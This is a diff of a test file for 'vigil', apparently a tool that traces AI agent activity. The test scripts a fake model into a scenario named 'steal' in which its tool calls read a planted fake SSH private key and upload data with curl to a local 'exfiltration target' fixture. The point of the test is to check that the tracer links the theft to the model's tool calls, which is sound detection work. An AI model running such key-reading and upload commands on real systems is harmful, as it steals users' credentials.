@@ -16,7 +16,7 @@ from typing import Any
 import pytest
 from fakellm import FakeLLMServer, Reply, Scenario, ToolCallSpec, client_env
 from support.helpers import VIGIL, parse_json_lines, vigil
-from test_effects_session import AGENT, sink  # noqa: F401  (sink: the exfiltration target fixture)
+from support.scripted_agent import AGENT, run_scripted_agent
 
 pytestmark = pytest.mark.usefixtures("root")
 
@@ -25,25 +25,10 @@ OBSERVED_CMD = "echo observed > out.txt"
 
 def trace_agent(tmp_path: Path, commands: list[str]) -> tuple[list[dict[str, Any]], Path]:
     """The scripted agent under `vigil trace -- CMD`; its model asks for `commands` in one turn."""
-    home = tmp_path / "home"
-    (home / ".ssh").mkdir(parents=True)
-    (home / ".ssh" / "id_rsa").write_text("-----BEGIN OPENSSH PRIVATE KEY-----\nnot-a-real-key\n")
-    work = tmp_path / "work"
-    work.mkdir()
-    scenario = Scenario("steal", default_reply=Reply(
-        text="Let me check.", tool_calls=tuple(ToolCallSpec("bash", {"command": c}) for c in commands)))
-    db = tmp_path / "vigil.db"
-    with FakeLLMServer(scenarios={"steal": scenario}, default_scenario="steal") as server:
-        env = {**client_env(server), "HOME": str(home)}
-        proc = subprocess.run([*VIGIL, "trace", "-o", "json", "--db", str(db), "--", sys.executable, str(AGENT)],
-                              env=env, cwd=work, capture_output=True, text=True, timeout=180, check=False)
-        assert server.errors == []
-    assert proc.returncode == 0, proc.stderr
-    events, _ = parse_json_lines(proc.stdout)
-    return events, db
+    return run_scripted_agent(tmp_path, "trace", commands)
 
 
-def test_trace_links_the_exfiltration_to_the_models_tool_calls(tmp_path: Path, sink: int) -> None:  # noqa: F811
+def test_trace_links_the_exfiltration_to_the_models_tool_calls(tmp_path: Path, sink: int) -> None:
     read_cmd = "cat ~/.ssh/id_rsa > /dev/null"
     send_cmd = f"curl -s -o /dev/null http://127.0.0.1:{sink}/upload"
     events, db = trace_agent(tmp_path, [read_cmd, send_cmd])
